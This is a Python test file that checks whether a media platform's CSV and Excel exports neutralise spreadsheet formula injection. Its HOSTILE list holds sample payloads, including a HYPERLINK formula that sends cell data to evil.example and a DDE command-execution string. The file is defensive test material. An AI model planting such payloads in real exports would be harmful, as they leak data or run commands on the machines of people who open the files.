"""Spreadsheet cells are never formulas (issue 11, item 9): the shared helper, and every
CSV/Excel export that uses it — the rundown CSV, the inquiry statistics workbook, the
review check lists (which must also import back unchanged)."""

import csv
import io
from datetime import date, time

import pytest
from openpyxl import Workbook, load_workbook

from rongmei.core.exports import restore_cell, safe_cell, safe_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'=1+1", "''+1"]
HARMLESS = ["青山镇部署晚稻抢收", "", "it's", "'quoted'", "3-1", "a=b", "１＋１"]


@pytest.mark.parametrize("text", HOSTILE)
def test_risky_text_gets_an_apostrophe_and_comes_back(text):
    cell = safe_cell(text)
    assert cell.startswith("'") and cell[1:] == text
    assert restore_cell(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert safe_cell(text) == text and restore_cell(text) == text


def test_numbers_and_none_pass():
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell(1.5) == 1.5


def test_workbook_stores_would_be_formulas_as_text():
    wb = Workbook()
    wb.active.append(["=1+1", "+1", 3])
    again = load_workbook(io.BytesIO(_save(safe_workbook(wb)))).active
    assert [c.data_type for c in again[1]] == ["s", "s", "n"]
    assert [c.value for c in again[1]] == ["=1+1", "+1", 3]


def _save(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_rundown_csv_neutralises_every_cell():
    from rongmei.distribution.formatters.rundown import Rundown, RundownEntry, rundown_csv

    entry = RundownEntry(title=HOSTILE[0], kind="新闻", source="@记者", seconds=60, presenter="-主持",
                         notes="+备注")
    rundown = Rundown("示例新闻联播", date(2024, 7, 3), time(19, 0), 300, (entry,))
    rows = list(csv.reader(io.StringIO(rundown_csv(rundown).decode("utf-8-sig"))))
    assert rows[1][3] == "'" + HOSTILE[0]
    assert rows[1][5:] == ["'@记者", "'-主持", "'+备注"]
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_inquiry_statistics_workbook_has_no_formulas(demo, login):
    from django.db.models import Value
    from django.db.models.functions import Concat

    from rongmei.core.models import Department

    Department.objects.filter(center=demo["demo"]).update(name=Concat(Value("=1+"), "name"))
    response = login("coordinator").get("/inquiry/stats/export.xlsx")   # this month: the demo's cases
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(str(cell.value).startswith("=1+") for cell in cells)   # the names are there, as text


def test_check_list_export_is_neutralised_and_imports_back(demo, login):
    from rongmei.review.checks import export_lexicon, parse_lexicon
    from rongmei.review.models import CheckList

    data = ("term,category,severity,note\n"
            "\"+86 代开发票\",违法信息,block,@所有人 群发\n"
            "'-减肥神药,医疗用语,warn,-慎用\n"
            "赌博网站,违法信息,block,\n")
    client = login("reviewer3")
    assert client.post("/review/lists/", {"kind": "sensitive", "text": data}).status_code == 302
    exported = client.get("/review/lists/sensitive/export/").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1] == ["'+86 代开发票", "违法信息", "block", "'@所有人 群发"]
    assert rows[2] == ["'-减肥神药", "医疗用语", "warn", "'-慎用"]  # typed with Excel's ' : the same
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row
    # the export imports back to the same list, and exports again byte for byte
    imported = parse_lexicon(exported)
    assert [e.term for e in imported.items] == ["+86 代开发票", "-减肥神药", "赌博网站"]
    assert imported.items[0].note == "@所有人 群发"
    assert export_lexicon(imported.items) == CheckList.objects.get(center=demo["demo"], kind="sensitive").content
    assert client.post("/review/lists/", {"kind": "sensitive", "text": exported}).status_code == 302
    assert client.get("/review/lists/sensitive/export/").content.decode("utf-8-sig") == exported


def test_xlsx_cell_drops_control_characters_openpyxl_refuses():
    from openpyxl import Workbook

    from rongmei.core.exports import xlsx_cell

    sheet = Workbook().active
    sheet["A1"] = xlsx_cell("标题\x01带\x1f控制符\t和换行\n")
    assert sheet["A1"].value == "标题带控制符\t和换行\n"
    assert xlsx_cell(12) == 12 and xlsx_cell(None) is None
